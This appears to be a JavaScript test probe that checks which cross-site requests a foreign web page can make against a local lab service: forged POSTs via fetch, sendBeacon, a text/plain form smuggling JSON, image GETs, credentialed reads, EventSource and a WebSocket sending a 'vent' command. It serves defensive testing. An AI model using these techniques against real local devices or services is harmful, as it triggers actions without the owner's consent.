// What a foreign page can try against the lab; says what was answered. PORT is the lab's.
(async () => {
  const to = "http://127.0.0.1:PORT", body = '{"who":"x","on":true,"name":"evil"}', done = [];
  const tried = async (name, does) => { try { done.push(name + ":" + await does()); } catch (e) { done.push(name + ":refused"); } };
  for (const action of ["arm", "vent", "start"]) {
    await tried("plain", async () => (await fetch(`${to}/api/${action}`, { method: "POST", mode: "no-cors", credentials: "include", headers: { "Content-Type": "text/plain" }, body })).type);
    await tried("json", async () => (await fetch(`${to}/api/${action}`, { method: "POST", credentials: "include", headers: { "Content-Type": "application/json", "X-Straw": "1" }, body })).status);
    navigator.sendBeacon(`${to}/api/${action}`, body);
    const form = document.createElement("form"), frame = document.createElement("iframe");
    frame.name = "f" + action;
    document.body.append(frame, form);
    Object.assign(form, { method: "POST", action: `${to}/api/${action}`, target: frame.name, enctype: "text/plain" });
    form.innerHTML = `<input name='{"who":"x","on":true,"a":"' value='"}'>`;
    form.submit();
    await tried("img", () => new Promise((ok, no) => { const i = new Image(); i.onload = () => ok("loaded"); i.onerror = no; i.src = `${to}/api/${action}?who=x&on=true`; }));
  }
  await tried("read", async () => (await (await fetch(`${to}/api/runs`, { credentials: "include" })).text()).length);
  await tried("events", () => new Promise((ok, no) => { const s = new EventSource(`${to}/ws`, { withCredentials: true }); s.onopen = () => ok("open"); s.onerror = no; }));
  await tried("socket", () => new Promise((ok, no) => { const s = new WebSocket(`ws://127.0.0.1:PORT/ws`); s.onopen = () => { s.send('{"do":"vent"}'); ok("open"); }; s.onerror = no; }));
  await new Promise((ok) => setTimeout(ok, 400));
  return done;
})()
